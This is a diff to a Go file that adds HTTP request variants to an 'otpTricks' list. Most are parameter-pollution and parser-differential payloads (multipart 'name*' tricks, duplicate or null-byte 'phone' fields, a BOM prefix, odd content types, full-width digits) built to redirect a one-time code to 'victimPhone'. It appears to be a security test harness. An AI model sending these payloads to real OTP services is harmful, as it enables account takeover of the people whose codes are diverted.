@@ -138,6 +138,17 @@ var otpTricks = func() []otpRequest {
 		form("phone=r1;phone=" + victimPhone),
 		form("{=1&phone=" + victimPhone),
 		form("phone=%2B880%201799%20999999"),
+		// From a second review: what PHP, body-parser, Werkzeug and
+		// busboy read and Go's parsers do not.
+		{"POST", "/otp", "multipart/form-data; boundary=XyZ", "--XyZ\r\nContent-Disposition: form-data; name*=UTF-8''phone; name=\"zzz\"\r\n\r\nr1\r\n--XyZ\r\nContent-Disposition: form-data; name*=UTF-8''x; name=\"phone\"\r\n\r\n" + victimPhone + "\r\n--XyZ--\r\n"},
+		{"POST", "/otp", "multipart/form-data; boundary=XyZ", "--XyZ\r\nContent-Disposition: form-data; name=\"phone\"\r\n\r\nr1\r\n--XyZ\r\nContent-Disposition: form-data; name=\"phone\"; junk\r\n\r\n" + victimPhone + "\r\n--XyZ--\r\n"},
+		{"POST", "/otp", "multipart/form-data; boundary=XyZ", "--XyZ\r\nContent-Disposition: form-data; name=\"phone\"\r\nContent-Type: text/plain; charset=base64\r\n\r\nODgwMTc5OTk5OTk5OQ==\r\n--XyZ--\r\n"},
+		form("phone=r1&+phone=" + victimPhone),
+		form("phone=r1&phone%00=" + victimPhone),
+		{"POST", "/otp?phone=r1", "application/x-www-form-urlencoded", "\ufeffphone=" + victimPhone},
+		{"POST", "/otp?phone=r1", "application/x-www-form-urlencoded x+json", "phone=" + victimPhone},
+		json(`{"phone":"８８０１７９９９９９９９９"}`),
+		json(`{"phone":8801799999999.5}`),
 		// Paths: encoded slashes and backslashes (decoded by nginx and
 		// WSGI servers), path parameters (dropped by servlet containers),
 		// dot segments, doubled slashes, a method in lower case, another
